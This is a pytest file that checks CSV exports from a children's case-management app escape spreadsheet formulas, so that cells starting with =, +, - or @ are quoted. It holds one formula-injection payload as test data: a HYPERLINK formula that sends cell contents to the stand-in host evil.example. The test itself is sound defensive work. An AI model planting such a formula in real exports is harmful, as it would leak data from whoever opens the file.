"""CSV downloads open in a spreadsheet as text: a typed cell never runs as a formula."""
from __future__ import annotations

import csv
import io

import pytest

from app.web.csv_export import safe_cell
from tests.pages.conftest import Browser
from tests.pathways.walker import Walk, samples

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_that_could_start_a_formula_get_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Sam Example", "C-100", "", 3, -2, 1.5])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value
    assert safe_cell(None) == ""


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_the_cases_export_neutralises_a_formula_in_a_childs_name(app, as_user):
    created = as_user("social_worker").post("/api/v1/process-instances", json={
        "process_model": "marp", "subject": {"child_ref": "+C-1", "name": HOSTILE}})
    assert created.status_code == 201
    manager = Browser(app)
    manager.sign_in("manager")
    [row] = _rows(manager.get("/cases.csv?pathway=marp"))
    assert row["child"] == "'" + HOSTILE and row["child_ref"] == "'+C-1"


def test_a_register_export_neutralises_a_formula_in_a_childs_name(app, as_user, traveller):
    walk = Walk(app, as_user, "placement_forum_2",
                {"prepare_review": "service_manager", "record_decision": "panel_chair"},
                samples("placement_forum_2"), "service_manager", traveller,
                subject={"child_ref": "@C-5201", "name": HOSTILE})
    walk.do("prepare_review")
    walk.at("2026-11-25T08:01:00+00:00")
    walk.do("record_decision", "record_decision__return")
    manager = Browser(app)
    manager.sign_in("manager")
    rows = _rows(manager.get("/registers/unmet-needs.csv"))
    assert rows and {(r["child_ref"], r["name"]) for r in rows} == {("'@C-5201", "'" + HOSTILE)}
